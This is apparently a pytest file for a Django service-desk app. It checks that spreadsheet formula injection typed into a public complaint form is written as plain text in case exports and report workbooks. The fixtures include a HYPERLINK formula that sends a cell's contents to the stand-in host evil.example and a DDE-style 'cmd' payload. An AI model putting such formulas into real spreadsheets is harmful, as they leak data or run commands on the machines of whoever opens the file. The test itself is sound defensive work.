"""Spreadsheet formula injection (OWASP CSV injection): customer text from the public form
that starts with = + - @ tab or CR reaches the case-list export and the report workbook as
text, never as a live formula — one helper (servicedesk.spreadsheet) behind every writer."""

import datetime
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.core.cache import cache
from openpyxl import Workbook, load_workbook

from complaints.models import Case
from servicedesk import spreadsheet
from servicedesk.reports import services
from servicedesk.reports.models import Export, ExportKind, ExportStatus

TZ = ZoneInfo("Asia/Shanghai")
SUBMITTED = datetime.datetime(2026, 11, 10, 10, tzinfo=TZ)
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"查看订单")'
TEXTS = {
    "subject": EVIL,
    "product": "@SUM(1+1)*cmd|' /C calc'!A0",
    "name": "+86 王芳",
}


@pytest.fixture(autouse=True)
def _media(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def evil_case(client, db):
    with time_machine.travel(SUBMITTED, tick=False):
        response = client.post(
            "/submit/",
            {
                "name": TEXTS["name"],
                "phone": "13812345678",
                "email": "",
                "preferred_contact": "phone",
                "type": "complaint",
                "category": "logistics",
                "subject": TEXTS["subject"],
                "description": "-1+1 物流信息五天没有更新",
                "expected_outcome": "",
                "order_no": "",
                "product": TEXTS["product"],
                "consent": "on",
            },
        )
    assert response.status_code == 302, response.content.decode()[:2000]
    case = Case.objects.get()
    assert case.subject == EVIL  # stored as the customer typed it
    return case


def cells(path):
    wb = load_workbook(path)
    return [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]


def assert_text_only(path, *expected):
    found = cells(path)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    for text in expected:
        matches = [c for c in found if c.value == text]
        assert matches, text
        assert all(c.data_type == "s" for c in matches), text


def test_the_case_list_export_writes_customer_formulas_as_text(evil_case, supervisor):
    with time_machine.travel(SUBMITTED + datetime.timedelta(hours=1), tick=False):
        export = services.export_request(kind=ExportKind.CASES, user=supervisor, filters={})
        services.export_run(export_id=export.pk)
    export = Export.objects.get(pk=export.pk)
    assert export.status == ExportStatus.DONE
    assert_text_only(export.file.path, EVIL, TEXTS["product"], TEXTS["name"])


def test_the_report_workbook_writes_customer_formulas_as_text(evil_case, supervisor):
    with time_machine.travel(datetime.datetime(2026, 12, 1, 9, tzinfo=TZ), tick=False):
        report = services.report_generate(
            start=datetime.date(2026, 11, 1), end=datetime.date(2026, 11, 30), user=supervisor
        )
    assert_text_only(report.file.path, EVIL, TEXTS["product"], TEXTS["name"])


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", EVIL, "=", "普通文字", "a=b"]
)
def test_the_shared_helper_keeps_text_as_text(text):
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("t")
    ws.append(spreadsheet.row(ws, [text, 42, None]))
    out = io.BytesIO()
    wb.save(out)
    cell, number = load_workbook(out).active["A1"], load_workbook(out).active["B1"]
    assert (cell.value, cell.data_type) == (text, "s")
    assert (number.value, number.data_type) == (42, "n")
